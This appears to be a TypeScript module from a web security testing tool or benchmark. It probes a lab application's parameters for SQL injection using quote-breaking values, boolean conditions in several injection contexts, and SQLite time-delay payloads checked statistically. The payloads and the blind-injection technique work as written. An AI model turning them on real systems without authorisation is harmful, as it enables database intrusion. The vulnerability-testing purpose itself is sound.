import type { Exchange } from '#bench/findings'
import { bodyOf, statusOf } from '../http/answer.ts'
import type { Lab } from '../lab.ts'
import { signature, tellsApart } from '../proof/differential.ts'
import { doseResponse, type TimedAnswer } from '../proof/timing.ts'
import type { AttackClass, Proof, Target } from '../proof.ts'
import { eachTarget, inHandler, targetsFor, titleOf, usual } from './each-target.ts'

const words =
  /\bexecute(?:many|script)?\s*\(|\bSELECT\b[\s\S]{1,200}\bFROM\b|\bINSERT\s+INTO\b|\bDELETE\s+FROM\b|\bUPDATE\s+\w+\s+SET\b|sqlite|psycopg|mysql|sequelize|sqlalchemy/i
const inStatement =
  /\bexecute(?:many|script)?\s*\(|\bSELECT\b|\bINSERT\s+INTO\b|\bDELETE\s+FROM\b|\bUPDATE\s+\w+\s+SET\b|\.(?:query|raw|prepare|run)\s*\(|\btext\(/i
const complaints =
  /sqlite3?\.\w*Error|SQLITE_ERROR|near ".{0,40}": syntax error|unrecognized token|unterminated quoted string|You have an error in your SQL syntax|syntax error at or near|ORA-\d{5}|SQLSTATE|no such column|incomplete input/i

/** How a condition is put into the statement; `usual` is an ordinary value, `nothing` one that matches nothing. */
interface Context {
  readonly name: string
  readonly write: (condition: string, usual: string, nothing: string) => string
  /** Widens what a statement touches: not for requests that change or delete. */
  readonly widens?: true
}

const contexts: readonly Context[] = [
  { name: 'quoted', write: (condition, value) => `${value}' AND ${condition} AND 'a'='a` },
  { name: 'quoted-or', write: (condition, _, nothing) => `${nothing}' OR ${condition} -- `, widens: true },
  { name: 'number', write: (condition, value) => `${/^\d+$/.test(value) ? value : '1'} AND ${condition}` },
  { name: 'number-or', write: (condition) => `-1 OR ${condition}`, widens: true },
  { name: 'pattern-or', write: (condition, _, nothing) => `${nothing}%' OR ${condition} -- `, widens: true },
  { name: 'bracket-or', write: (condition, _, nothing) => `${nothing}') OR ${condition} -- `, widens: true },
  { name: 'double-quoted-or', write: (condition, _, nothing) => `${nothing}" OR ${condition} -- `, widens: true },
  { name: 'order', write: (condition) => `(CASE WHEN ${condition} THEN 1 ELSE abs(-9223372036854775807-1) END)` },
  {
    name: 'concatenation',
    write: (condition, value) => `${value}'||(CASE WHEN ${condition} THEN '' ELSE abs(-9223372036854775807-1) END)||'`,
  },
]

/**
 * Demands one of: a pair of conditions that differ in digits only and steer the answer, twice with fresh numbers, while the same
 * texts with a misspelt operator do not; a quote seen to have arrived in the statement itself; or an answer whose time follows the dose.
 */
export const sqlInjection: AttackClass = {
  id: 'sql-injection',
  attack: (lab) =>
    eachTarget(lab, {
      targets: targetsFor(lab, {
        code: words,
        names: /(?:^|_)(?:id|user(?:name)?|name|search|q|query|sort|order|filter|category|email)$/i,
      }),
      nothing: 'The app has no SQL in its code, or no parameters.',
      attempt: (target) => attempt(lab, target),
    }),
}

async function attempt(lab: Lab, target: Target): Promise<Proof | undefined> {
  const word = lab.word()
  const plain = await lab.attempt(target, `${word}`, 'sends an ordinary value')
  const raw = `${word}'||'z`
  const joined = await lab.attempt(target, raw, 'sends a value with two quotes that leave the statement valid')
  const statements = await lab.observed(word, ['query'])
  const broken = statements.find(({ detail }) => statementIn(detail).includes(raw))
  const odd = await lab.attempt(target, `${word}'`, 'sends a single quote')
  const even = await lab.attempt(target, `${word}''`, 'sends a doubled quote')
  const seen = broken === undefined ? [] : [`The statement holds the quotes as sent: ${broken.detail.slice(0, 300)}`]
  const silent = new Set([plain, joined, odd, even].map((exchange) => signature(exchange, [raw, word]))).size === 1
  if (silent && broken === undefined && !inHandler(target, inStatement)) return undefined
  const proof = await steered(lab, target, seen)
  if (proof !== undefined) return proof
  const because = (family: string, message: string, exchanges: readonly Exchange[]): Proof => ({
    rule: 'sql-injection',
    ...target,
    message,
    exchanges,
    family,
    observed: seen,
  })
  if (broken !== undefined)
    return because('statement', `A quote in ${titleOf(target)} became part of the SQL statement.`, [joined, odd])
  const complains = complaints.test(bodyOf(odd)) || statusOf(odd) >= 500
  if (complains && !complaints.test(bodyOf(even)) && statusOf(even) < 500 && statusOf(plain) < 500) {
    if (complaints.test(bodyOf(odd)))
      return because(
        'error',
        `A single quote in ${titleOf(target)} breaks the SQL statement, a doubled quote does not.`,
        [odd, even],
      )
    if (inHandler(target, inStatement)) return slowed(lab, target)
  }
  return undefined
}

/** The statement of an observed query, without the values that were passed beside it. */
export function statementIn(detail: string): string {
  const values = detail.indexOf(' -- [')
  return values === -1 ? detail : detail.slice(0, values)
}

/** The boolean proof. */
async function steered(lab: Lab, target: Target, observed: readonly string[]): Promise<Proof | undefined> {
  const changes = /^(?:PUT|PATCH|DELETE)$/.test(target.endpoint.method)
  for (const context of contexts) {
    if (context.widens === true && changes) continue
    const value = usual(lab, target)
    const ask = async (holds: boolean, misspelt = false) => {
      const number = lab.number()
      const condition = `${number}=${holds ? number : number + 1}`
      const text = context.write(condition, value, lab.word())
      const sent = misspelt
        ? text.replace(' AND ', ' ANB ').replace(' OR ', ' OB ').replace('CASE WHEN', 'CASE WHET')
        : text
      const exchange = await lab.attempt(
        target,
        sent,
        misspelt
          ? 'sends the same with a misspelt operator'
          : `sends a condition that ${holds ? 'holds' : 'does not hold'}`,
      )
      return {
        exchange,
        told: signature(exchange, [sent, condition, String(number), String(number + 1)]).replace(
          /\bas[0-9a-z]{7}\b/g,
          '',
        ),
      }
    }
    const [yes, no] = [await ask(true), await ask(false)]
    if (yes.told === no.told) continue
    const [yesAgain, noAgain] = [await ask(true), await ask(false)]
    if (!tellsApart([yes.told, yesAgain.told], [no.told, noAgain.told])) continue
    const controls = [await ask(true, true), await ask(false, true)]
    if (controls[0]?.told !== controls[1]?.told) continue
    return {
      rule: 'sql-injection',
      ...target,
      message: `A condition in ${titleOf(target)} steers the answer: it differs whenever the condition holds, and not when its operator is misspelt.`,
      exchanges: [yes.exchange, no.exchange, controls[0]?.exchange].flatMap((exchange) => exchange ?? []),
      observed,
      family: `boolean, ${context.name}`,
    }
  }
  return undefined
}

/** Work for SQLite that grows with the dose: one hexadecimal text of so many bytes. */
const bytesPerMillisecond = 130_000
const delays: readonly ((bytes: number, word: string) => string)[] = [
  (bytes, word) => `${word}'||(SELECT substr(upper(hex(randomblob(${bytes}))),1,0))||'`,
  (bytes) => `1 AND length(upper(hex(randomblob(${bytes}))))>=0`,
]

/** The timing proof, for statements whose result does not show. */
async function slowed(lab: Lab, target: Target): Promise<Proof | undefined> {
  for (const delay of delays) {
    const answers: TimedAnswer[] = []
    let last: Exchange | undefined
    for (let round = 0; round < 5; round += 1) {
      for (const dose of [0, 200, 400]) {
        const exchange = await lab.attempt(
          target,
          delay(Math.max(1, dose * bytesPerMillisecond), lab.word()),
          `asks the database to work for ${dose} ms`,
        )
        answers.push({ dose, took: exchange.milliseconds })
        last = exchange
      }
      if (round === 0 && (answers[2]?.took ?? 0) < 2 * (answers[0]?.took ?? 0) + 50) break
    }
    const { proven, pValue, medians } = doseResponse(answers)
    if (!proven || last === undefined) continue
    return {
      rule: 'sql-injection',
      ...target,
      message: `Work asked for in ${titleOf(target)} is done by the database: answers take ${medians.map(({ took }) => `${Math.round(took)} ms`).join(', ')} for doses of 0, 200 and 400 (p = ${pValue.toFixed(3)}).`,
      exchanges: [last],
      family: 'time',
    }
  }
  return undefined
}
